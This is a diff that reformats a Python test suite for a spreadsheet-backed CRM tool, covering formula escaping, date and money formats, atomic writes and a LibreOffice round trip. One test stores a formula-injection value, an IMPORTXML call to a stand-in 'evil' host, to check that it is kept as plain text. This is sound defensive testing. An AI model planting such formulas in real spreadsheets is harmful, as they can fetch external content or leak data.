@@ -56,8 +56,17 @@ def test_layout_frozen_header_dropdowns_formats_hidden_tabs(path, crm):
 
 
 def test_text_that_looks_like_a_formula_is_stored_as_text(path, crm):
-    crm.upsert("Customers", [{"customer_id": "C-1", "name": '=IMPORTXML("http://evil","//a")',
-                              "phone": None, "notes": "+1 call me"}])  # fmt: skip
+    crm.upsert(
+        "Customers",
+        [
+            {
+                "customer_id": "C-1",
+                "name": '=IMPORTXML("http://evil","//a")',
+                "phone": None,
+                "notes": "+1 call me",
+            }
+        ],
+    )
     ws = _ws(path, "Customers")
     cell = ws.cell(row=2, column=_col(ws, "name"))
     assert cell.data_type == "s" and cell.quotePrefix
@@ -75,8 +84,17 @@ def test_text_that_looks_like_a_formula_is_stored_as_text(path, crm):
 
 
 def test_dates_and_money_get_number_formats(path, crm):
-    crm.upsert("Interactions", [{"interaction_id": "I-1", "date": "2025-02-03 14:05",
-                                 "type": "purchase", "amount": "1,250.5"}])  # fmt: skip
+    crm.upsert(
+        "Interactions",
+        [
+            {
+                "interaction_id": "I-1",
+                "date": "2025-02-03 14:05",
+                "type": "purchase",
+                "amount": "1,250.5",
+            }
+        ],
+    )
     ws = _ws(path, "Interactions")
     when = ws.cell(row=2, column=_col(ws, "date"))
     assert when.value == dt.datetime(2025, 2, 3, 14, 5) and when.number_format == "yyyy-mm-dd hh:mm"
@@ -104,8 +122,10 @@ def test_bad_value_mid_plan_writes_nothing(path, crm):
     crm.upsert("Customers", [{"customer_id": "C-1", "name": "A"}])
     before = path.read_bytes()
     with pytest.raises(Exception, match="32767"):
-        crm.upsert("Customers", [{"customer_id": "C-2", "name": "B"},
-                                 {"customer_id": "C-3", "name": "x" * 40_000}])  # fmt: skip
+        crm.upsert(
+            "Customers",
+            [{"customer_id": "C-2", "name": "B"}, {"customer_id": "C-3", "name": "x" * 40_000}],
+        )
     assert path.read_bytes() == before
 
 
@@ -171,10 +191,21 @@ def test_libreoffice_opens_the_demo_and_keeps_layout(tmp_path):
     crm.upsert("Customers", [{"customer_id": "C-X", "name": "=1+1", "notes": "00123"}])
     out = tmp_path / "lo"
     subprocess.run(
-        ["soffice", "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/profile",
-         "--convert-to", "xlsx", "--outdir", str(out), str(tmp_path / "crm.xlsx")],
-        check=True, capture_output=True, timeout=180,
-    )  # fmt: skip
+        [
+            "soffice",
+            "--headless",
+            "--norestore",
+            f"-env:UserInstallation=file://{tmp_path}/profile",
+            "--convert-to",
+            "xlsx",
+            "--outdir",
+            str(out),
+            str(tmp_path / "crm.xlsx"),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=180,
+    )
     wb = openpyxl.load_workbook(out / "crm.xlsx")
     # (LibreOffice's headless export drops view settings such as frozen panes, so the
     # frozen header is checked on our own file in test_layout_…, not on its re-save.)
